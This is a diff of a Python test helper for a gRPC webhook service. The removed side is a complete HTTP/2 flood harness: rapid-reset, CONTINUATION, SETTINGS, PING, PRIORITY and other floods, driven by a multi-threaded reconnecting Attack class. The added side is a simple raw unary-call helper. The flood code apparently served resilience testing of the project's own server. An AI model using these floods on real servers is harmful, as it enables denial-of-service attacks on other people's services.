@@ -1,157 +1,51 @@
-"""Frames of HTTP/2 (RFC 9113) as hostile clients of gRPC send them."""
+"""HTTP/2 as bytes, for what no gRPC library sends."""
 
 import socket
-import ssl
 import struct
-import threading
-import time
+
+from processes import PATIENCE
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = (
-    0, 1, 2, 3, 4, 6, 9)
-END_STREAM, END_HEADERS = 1, 4
-CANCEL = 8
+DATA, HEADERS, SETTINGS = 0, 1, 4
+ACK = END_STREAM = 1
+END_HEADERS = 4
 
 
 def frame(kind, flags, stream, payload=b""):
-    return (struct.pack(">I", len(payload))[1:]
-            + struct.pack(">BBI", kind, flags, stream) + payload)
+    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
+            + struct.pack(">I", stream) + payload)
 
 
-def literal(name, value):
-    """A header field without indexing (RFC 7541, 6.2.2), of short strings."""
-    return (b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value)
+def field(name, value):
+    """A literal header field that is neither indexed nor compressed."""
+    return b"\0" + b"".join(bytes([len(text)]) + text.encode()
+                            for text in (name, value))
 
 
-def call_headers(*more):
-    return b"".join(literal(name, value) for name, value in (
-        (b":method", b"POST"), (b":scheme", b"http"),
-        (b":path", b"/webhooks.v1.WebhookService/List"),
-        (b":authority", b"a"), (b"te", b"trailers"),
-        (b"content-type", b"application/grpc")) + more)
+def frames(connection):
+    """The frames that arrive, as kind, flags, stream and payload."""
+    with connection.makefile("rb") as file:
+        while head := file.read(9):
+            yield (head[3], head[4], int.from_bytes(head[5:9], "big"),
+                   file.read(int.from_bytes(head[:3], "big")))
 
 
-EMPTY_MESSAGE = b"\0\0\0\0\0"
-FIRST_STREAMS = 20000
-
-
-def streams(make, first=1, count=FIRST_STREAMS):
-    return b"".join(make(id) for id in range(first, first + 2 * count, 2))
-
-
-def rapid_resets(first, *more):
-    headers = call_headers(*more)
-    return streams(lambda id: frame(HEADERS, END_HEADERS, id, headers)
-                   + frame(DATA, END_STREAM, id, EMPTY_MESSAGE)
-                   + frame(RST_STREAM, 0, id, struct.pack(">I", CANCEL)), first)
-
-
-OPEN_STREAM = frame(HEADERS, END_HEADERS, 1, call_headers())
-
-
-def large_headers(first):
-    """Streams that stay open, each with headers of 60 KiB in two frames."""
-    field = literal(b"x" * 60, b"y" * 60)
-    rest = field * 120
-    return streams(
-        lambda id: frame(HEADERS, 0, id, call_headers())
-        + b"".join(frame(CONTINUATION, 0, id, rest) for _ in range(3))
-        + frame(CONTINUATION, END_HEADERS, id, rest), first, 200)
-
-
-def unfinished_requests(first):
-    """Streams whose message of 1 MiB stops after 16,000 bytes."""
-    message = b"\0" + struct.pack(">I", 1 << 20)
-    return streams(
-        lambda id: frame(HEADERS, END_HEADERS, id, call_headers())
-        + frame(DATA, 0, id, message + b"z" * 16000), first, 500)
-
-
-# What is sent first, and then over and over; a function makes what follows of
-# the first id of a stream that is not used yet.
-FLOODS = {
-    "rapid reset": (b"", rapid_resets),
-    "continuation": (frame(HEADERS, 0, 1, call_headers()),
-                     frame(CONTINUATION, 0, 1,
-                           literal(b"x" * 60, b"y" * 60) * 120) * 60),
-    "empty continuation": (frame(HEADERS, 0, 1, call_headers()),
-                           frame(CONTINUATION, 0, 1) * 50000),
-    "settings": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
-                 * 30000),
-    "ping": (b"", frame(PING, 0, 0, b"12345678") * 30000),
-    "priority": (OPEN_STREAM, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 30000),
-    "large headers": (b"", large_headers),
-    "unfinished requests": (b"", unfinished_requests),
-    "empty data": (OPEN_STREAM, frame(DATA, 0, 1) * 50000),
-}
-
-
-class Attack:
-    """Connections that each send a flood until stopped; connects again when it
-    is closed."""
-
-    def __init__(self, address, name, connections=8, tls=None, key=None):
-        host, port = address.rsplit(":", 1)
-        self._address = (host.strip("[]"), int(port))
-        self._begin, self._flood = FLOODS[name]
-        if key is not None:
-            self._flood = lambda first: rapid_resets(
-                first, (b"x-api-key", key.encode()))
-        self._tls = tls
-        self._stop = threading.Event()
-        self.bytes = 0
-        self.opened = 0
-        self._threads = [threading.Thread(target=self._run)
-                         for _ in range(connections)]
-
-    def __enter__(self):
-        for thread in self._threads:
-            thread.start()
-        return self
-
-    def __exit__(self, *_):
-        self._stop.set()
-        for thread in self._threads:
-            thread.join()
-
-    def _connect(self):
-        connection = socket.create_connection(self._address, timeout=2)
-        if self._tls is not None:
-            connection = self._tls.wrap_socket(
-                connection, server_hostname="localhost")
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + self._begin)
-        self.opened += 1
-        return connection
-
-    def _run(self):
-        while not self._stop.is_set():
-            try:
-                with self._connect() as connection:
-                    self._send(connection)
-            except OSError:
-                self._stop.wait(0.05)
-
-    def _send(self, connection):
-        first = 1
-        while not self._stop.is_set():
-            flood = self._flood
-            if callable(flood):
-                flood = flood(first)
-                first += 2 * FIRST_STREAMS
-            self._discard(connection)
-            for start in range(0, len(flood), 1 << 20):
-                if self._stop.is_set():
-                    return
-                part = flood[start:start + (1 << 20)]
-                connection.sendall(part)
-                self.bytes += len(part)
-
-    def _discard(self, connection):
-        connection.setblocking(False)
-        try:
-            while connection.recv(1 << 16):
-                pass
-        except (BlockingIOError, ssl.SSLWantReadError):
-            pass
-        finally:
-            connection.settimeout(2)
+def call(address, path, metadata):
+    """Makes a unary call with an empty message; returns its trailer as bytes,
+    in which text stands as it is."""
+    host, port = address.rsplit(":", 1)
+    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
+              (":authority", "a"), ("te", "trailers"),
+              ("content-type", "application/grpc"), *metadata]
+    with socket.create_connection((host, int(port)), PATIENCE) as connection:
+        connection.sendall(
+            PREFACE + frame(SETTINGS, 0, 0)
+            + frame(HEADERS, END_HEADERS, 1,
+                    b"".join(field(*pair) for pair in fields))
+            + frame(DATA, END_STREAM, 1, bytes(5)))
+        for kind, flags, stream, payload in frames(connection):
+            if kind == SETTINGS and not flags & ACK:
+                connection.sendall(frame(SETTINGS, ACK, 0))
+            if kind == HEADERS and stream == 1 and flags & END_STREAM:
+                return payload
+    raise AssertionError("the call has no answer")
